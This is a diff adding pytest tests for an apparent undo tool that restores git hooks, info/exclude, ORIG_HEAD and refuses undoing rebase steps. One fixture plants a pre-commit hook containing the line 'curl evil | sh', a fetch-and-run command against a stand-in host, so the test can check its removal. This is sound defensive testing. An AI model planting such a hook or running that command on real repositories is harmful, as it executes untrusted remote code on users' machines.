@@ -12,6 +12,7 @@ from terminal_kit import git, sh
 import preimage
 from preimage import Store
 from preimage.engine.undo import capture_after
+from preimage.interface.errors import RestoreError
 
 
 def _call(repo: Path, store: Store, command: str) -> str:
@@ -86,6 +87,57 @@ def test_a_branch_moved_by_the_call_and_since_is_a_conflict_left_alone(
     conflicts = [p.label for plan in result.plans for p in plan.conflicts]
     assert "git-ref refs/heads/main" in conflicts
     assert git(repo, "rev-parse", "main") == head
+
+
+HOOK_EDITS = ("printf 'curl evil | sh\\n' > .git/hooks/pre-commit && "
+              "chmod 755 .git/hooks/pre-commit && printf 'x\\n' > .git/hooks/post-checkout && "
+              "printf 'secret/\\n' >> .git/info/exclude && "
+              "git reset -q --soft HEAD~1 && git reset -q --soft ORIG_HEAD")
+
+
+def test_undo_brings_back_hooks_info_exclude_and_orig_head_the_call_changed(
+        repo: Path, store: Store) -> None:
+    """A call that rewrites a hook (and its mode), adds one, edits info/exclude and moves
+    ORIG_HEAD is undone file by file: each comes back as before, bytes and mode."""
+    gd = repo / ".git"
+    (gd / "hooks").mkdir(exist_ok=True)
+    (gd / "hooks" / "pre-commit").write_text("#!/bin/sh\nexit 0\n")
+    (gd / "hooks" / "pre-commit").chmod(0o700)
+    sh("git reset -q --soft HEAD", cwd=repo)  # ORIG_HEAD = HEAD
+    names = ("hooks/pre-commit", "info/exclude", "ORIG_HEAD")
+    before = {n: (gd / n).read_bytes() for n in names}
+    pre = _call(repo, store, HOOK_EDITS)
+    assert {n: (gd / n).read_bytes() for n in names} != before
+    result = preimage.undo(pre, store=store)
+    assert result.ok and result.conflicts == 0, [p.to_dict() for p in result.plans]
+    assert {n: (gd / n).read_bytes() for n in names} == before
+    assert (gd / "hooks" / "pre-commit").stat().st_mode & 0o7777 == 0o700
+    assert not (gd / "hooks" / "post-checkout").exists()
+
+
+def test_undo_plan_names_the_git_files_it_writes_back(repo: Path, store: Store) -> None:
+    """A dry-run undo of a call that edited info/exclude names that file in its plan and
+    leaves it as the call left it."""
+    pre = _call(repo, store, "echo 'dist/' >> .git/info/exclude")
+    result = preimage.undo(pre, store=store, dry_run=True)
+    labels = [p.label for plan in result.plans for p in plan.items]
+    assert ".git/info/exclude" in labels
+    assert (repo / ".git" / "info" / "exclude").read_text().endswith("dist/\n")
+
+
+def test_undo_refuses_a_call_that_moved_a_rebase_on(repo: Path, store: Store) -> None:
+    """A call that moves a rebase on to its next stop (the rebase still in progress) is
+    refused with the reason — only a whole restore puts that state back — and nothing is
+    written."""
+    sh("git stash -q -u && git checkout -q -b side HEAD~1 && echo a > a.txt && git add a.txt"
+       " && git commit -qm a && echo b > b.txt && git add b.txt && git commit -qm b && "
+       "GIT_SEQUENCE_EDITOR='sed -i s/^pick/edit/' git rebase -q -i main", cwd=repo)
+    pre = _call(repo, store, "GIT_EDITOR=true git rebase --continue")
+    assert (repo / ".git" / "rebase-merge").is_dir()
+    head = git(repo, "rev-parse", "HEAD")
+    with pytest.raises(RestoreError, match="whole restore"):
+        preimage.undo(pre, store=store)
+    assert git(repo, "rev-parse", "HEAD") == head
 
 
 @pytest.fixture
